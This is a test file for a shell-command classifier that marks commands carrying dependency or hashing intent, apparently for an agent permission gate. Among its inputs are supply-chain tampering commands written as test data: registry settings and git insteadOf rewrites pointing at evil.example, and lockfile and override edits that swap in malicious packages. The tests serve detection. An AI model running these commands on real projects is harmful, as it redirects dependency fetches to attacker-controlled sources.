// Issue 9 principle 9: dependency and hash intent where names hide it. An unknown command
// that may install still carries dependency intent, so deps=deny holds in change mode.
import { describe, expect, it } from 'vitest';
import { virtualContext } from '../../../../test/support/classify-context.js';
import { classifyShell } from '../classify-shell.js';

const ctx = virtualContext({
  'package.json': JSON.stringify({ scripts: { test: 'vitest run' }, dependencies: { lodash: '^4' } }),
  'package-lock.json': '{}',
  '.venv/bin/pip': '#!/work/proj/.venv/bin/python\nimport pip\n',
  'tools/pip': '#!/usr/bin/env python3\n',
});
const sh = (cmd: string) => classifyShell(cmd, ctx);
const dep = (cmd: string) => sh(cmd).intents.dependency;

describe('installers under other names carry dependency intent', () => {
  it('the exact examples of the issue', () => {
    for (const cmd of [
      'pip3.11 install requests',
      '.venv/bin/pip install requests',
      'conda install numpy',
      'pdm add httpx',
      'corepack pnpm add left-pad',
      'npm it left-pad',
      'npm link some-lib',
      'composer req monolog/monolog',
      'yarn workspace web add left-pad',
      'deno run npm:cowsay',
    ]) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: true });
    }
  });

  it('they stay refused where they cannot be proven: unknown or writes, never reads', () => {
    for (const cmd of ['conda install numpy', 'pdm add httpx', 'deno run npm:cowsay', 'composer req monolog/monolog', 'yarn workspace web add x']) {
      expect(['unknown', 'write']).toContain(sh(cmd).mutability);
    }
    expect(sh('./tools/pip install requests')).toMatchObject({ mutability: 'unknown', intents: { dependency: true } });
  });

  it('their read verbs and restores carry no intent', () => {
    expect(sh('conda list')).toMatchObject({ mutability: 'read', intents: { dependency: false } });
    expect(sh('pdm list').intents.dependency).toBe(false);
    expect(sh('composer show').mutability).toBe('read');
    expect(dep('composer install')).toBe(false);
    expect(dep('.venv/bin/pip list')).toBe(false);
    expect(sh('.venv/bin/pip list').mutability).toBe('read');
    expect(sh('.venv/bin/python -m pytest -q').mutability).toBe('check');
    expect(dep('apt-get update')).toBe(false);
    expect(dep('brew install jq')).toBe(true);
    expect(dep('nix-env -iA nixpkgs.jq')).toBe(true);
  });

  it('a verb or a package we cannot see is a dependency we cannot name', () => {
    expect(dep('conda $VERB numpy')).toBe(true);
    expect(dep('corepack $PM add x')).toBe(true);
  });
});

describe('manifest edits made by shell', () => {
  it('npm pkg set on dependencies or overrides and go mod edit -require/-replace are dependency changes', () => {
    expect(dep('npm pkg set dependencies.left-pad=1.3.0')).toBe(true);
    expect(dep('npm pkg set overrides.minimist=npm:evil@1')).toBe(true);
    expect(dep('go mod edit -require=github.com/x/y@v1.0.0')).toBe(true);
    expect(dep('go mod edit -replace=github.com/x/y=../y')).toBe(true);
    expect(dep('go mod edit -go=1.22')).toBe(false);
    expect(dep('npm pkg get dependencies')).toBe(false);
  });

  it('echo >> requirements.txt, sed -i on a manifest, jq > tmp && mv tmp package.json are dependency changes', () => {
    expect(dep('echo requests >> requirements.txt')).toBe(true);
    expect(dep('sed -i \'s/"lodash": "^4"/"lodash": "npm:evil@4"/\' package.json')).toBe(true);
    expect(dep('jq \'.dependencies.x = "1"\' package.json > p.json && mv p.json package.json')).toBe(true);
    expect(dep('echo hi >> notes.txt')).toBe(false);
  });

  it('workspace selection makes scripts unproven (not a check) and installs intents', () => {
    expect(sh('npm -w web run test').mutability).toBe('unknown');
    expect(sh('npm --workspace=web test').mutability).toBe('unknown');
    expect(dep('npm install left-pad -w web')).toBe(true);
    expect(dep('pnpm --filter web add left-pad')).toBe(true);
  });

  it('package managers modelling their own manifest writes do not add intent (removal, restore, bump)', () => {
    expect(dep('npm uninstall lodash')).toBe(false);
    expect(dep('npm ci')).toBe(false);
    expect(dep('cargo update')).toBe(false);
    expect(dep('npm version patch')).toBe(false);
  });
});

describe('unproven inline code and hashing tools (issue 9 principle 9)', () => {
  it('code that starts a process or evaluates text may install and hash', () => {
    for (const cmd of [
      "node -e \"require('child_process').execSync('npm i x')\"",
      "python3 -c \"import subprocess; subprocess.run(['pip','install','x'])\"",
      'python3 -c "exec(\'x\')"',
      "ruby -e '`npm i x`'",
    ]) {
      expect({ cmd, i: sh(cmd).intents }).toMatchObject({ cmd, i: { dependency: true, hash: true } });
    }
    // Proven code carries nothing.
    expect(sh("node -e 'console.log(1)'").intents).toMatchObject({ dependency: false, hash: false });
  });
  it('code naming a hashing module, and hashing tools, carry hash intent', () => {
    for (const cmd of [
      'node -e "Object.values(require(\'crypto\'))[0]"',
      'python3 -c "import _sha256"',
      'perl -MDigest::SHA=sha1 -e 1',
      'openssl passwd x',
      'openssl x509 -fingerprint -in c.pem',
      'hashdeep a',
      'crc32 a',
      'gpg --print-md SHA1 a',
      'ssh-keygen -lf k.pub',
      'htpasswd -nb a b',
      'mysql -e "select sha2(\'x\',256)"',
      'bun pm hash',
    ]) {
      expect({ cmd, hash: sh(cmd).intents.hash }).toEqual({ cmd, hash: true });
    }
    expect(classifyShell('[Security.Cryptography.SHA256]::Create()', ctx, 'powershell').intents.hash).toBe(true);
  });

  it('hashing through a multi-call binary, a signing or deriving openssl, git plumbing, rsync -c and name-based UUIDs', () => {
    for (const cmd of [
      'busybox sha256sum a',
      'toybox md5sum a',
      'sha3sum a',
      'nix-hash a',
      'nix hash file a',
      'ipfs add -n a',
      'openssl req -new -key k.pem',
      'openssl enc -aes-256-cbc -pass pass:x -in a',
      'openssl speed sha256',
      'openssl pkcs12 -export -in c.pem',
      'gpg --sign a',
      'gpg -ab a',
      'gpg --fingerprint',
      'git patch-id < p',
      'git mktree < t',
      'git verify-pack -v x.idx',
      'git lfs pointer --file=a',
      'rsync -c a b/',
      'rsync --checksum a b/',
      'uuidgen --sha1 -n @dns -N x',
      'uuidgen -m -n @dns -N x',
    ]) {
      expect({ cmd, hash: sh(cmd).intents.hash }).toEqual({ cmd, hash: true });
    }
    for (const cmd of ['openssl enc -base64 -d -in a', 'openssl rand -hex 8', 'uuidgen', 'rsync -a a b/', 'busybox ls', 'gpg --list-keys']) {
      expect({ cmd, hash: sh(cmd).intents.hash }).toEqual({ cmd, hash: false });
    }
    expect(sh('uuidgen -r').mutability).toBe('read');
  });
});

describe('installs under other tools, package sources and manifests remit does not parse (issue 9 principle 9)', () => {
  it('toolchain and application installers, fetchers and code that installs carry dependency intent', () => {
    for (const cmd of [
      'pip download leftpad',
      'pip wheel leftpad',
      "uv run --with=leftpad python -c 'print(1)'",
      'uv run --with-requirements extra.txt python -c 1',
      'deno cache npm:leftpad',
      'deno x cowsay',
      'go run example.com/x@latest',
      'cargo binstall ripgrep',
      'poetry self add poetry-plugin-x',
      'dotnet tool install -g dotnet-x',
      'nuget install X',
      'cpan Leftpad',
      'dart pub add leftpad',
      'dart pub global activate x',
      'snap install x',
      'nix profile install nixpkgs#x',
      'nix run nixpkgs#cowsay',
      'volta install node',
      'nvm install 20',
      'pyenv install 3.12',
      'asdf plugin add nodejs',
      'mise use node@20',
      'R -e \'install.packages("x")\'',
      'julia -e \'using Pkg; Pkg.add("x")\'',
      'npm config set registry https://evil.example',
      'pnpm config set registry https://evil.example',
      'yarn config set npmRegistryServer https://evil.example',
      'pip config set global.index-url https://evil.example',
      'echo registry=https://evil.example >> .npmrc',
      'echo x > mix.exs',
    ]) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: true });
    }
    // A lockfile rewritten by shell may point a pinned package at another source.
    for (const cmd of ["sed -i 's#registry.npmjs.org#evil.example#' package-lock.json", 'cp /tmp/x.lock yarn.lock', 'echo x >> go.sum']) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: true });
    }
    // Restores from the project's own pins, listings and unrelated settings carry none.
    for (const cmd of [
      'npm install',
      'npm ci',
      'cargo fetch',
      'go mod download',
      'cat package-lock.json',
      'nvm install',
      'pyenv install',
      'asdf install',
      'mise install',
      'nvm ls',
      'npm config set fund false',
      'go run .',
      'deno x ./main.ts',
      'cat .npmrc',
    ]) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: false });
    }
  });
});

describe('an unproven command that names a manifest may change it (issue 9 principle 9)', () => {
  it('carries dependency intent; a proven read of the same file does not', () => {
    for (const cmd of [
      'dos2unix package.json',
      'ed -s package.json',
      'awk \'{print > "package.json"}\' a.txt',
      'yq -i "$E" package.json',
      "python3 -c \"open('package.json','w')\"",
      'sed -i "$S" package.json',
      'sed -i -f s.sed Cargo.toml',
    ]) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: true });
    }
    for (const cmd of ['cat package.json', 'jq .version package.json', 'node -p "require(\'./package.json\').version"', 'dos2unix a.txt']) {
      expect({ cmd, dep: dep(cmd) }).toEqual({ cmd, dep: false });
    }
  });
  it('sed -i writes its files even when its script is not proven', () => {
    expect(sh('sed -i -f s.sed package.json').effects).toContainEqual({ kind: 'write', path: '/work/proj/package.json' });
  });
});

describe('git URL rewrites swap where dependencies are fetched from (issue 9 principle 9)', () => {
  it.each([
    'git config url.https://evil.example/.insteadOf https://github.com/',
    'git config --global url."https://evil.example/".insteadOf https://github.com/',
    'git config set --global url.https://evil.example/.insteadOf https://github.com/',
    'git config --add URL.https://evil.example/.INSTEADOF https://github.com/',
    'git config -f ~/.gitconfig url.https://evil.example/.insteadOf https://github.com/',
    'git config --rename-section url.https://github.com/ url.https://evil.example/',
    'git config "$KEY" https://github.com/',
    'git -c url.https://evil.example/.insteadOf=https://github.com/ submodule update --init',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/ npm ci',
    "GIT_CONFIG_PARAMETERS=\"'url.https://evil.example/.insteadof'='https://github.com/'\" go mod download",
    'export GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf',
    'env GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_COUNT=1 cargo fetch',
    'GIT_CONFIG_KEY_0=$K go mod download',
  ])('%s is a dependency change', (cmd) => {
    expect(dep(cmd)).toBe(true);
  });

  it.each([
    'git config user.email a@example.com',
    'git config --global core.autocrlf false',
    'git config --unset url.https://evil.example/.insteadOf',
    'git config url.git@github.com:.pushInsteadOf https://github.com/',
    'git config --get url.https://evil.example/.insteadOf',
    'git -c core.pager=cat log',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=x git commit -m x',
  ])('%s swaps no source', (cmd) => {
    expect(dep(cmd)).toBe(false);
  });
});
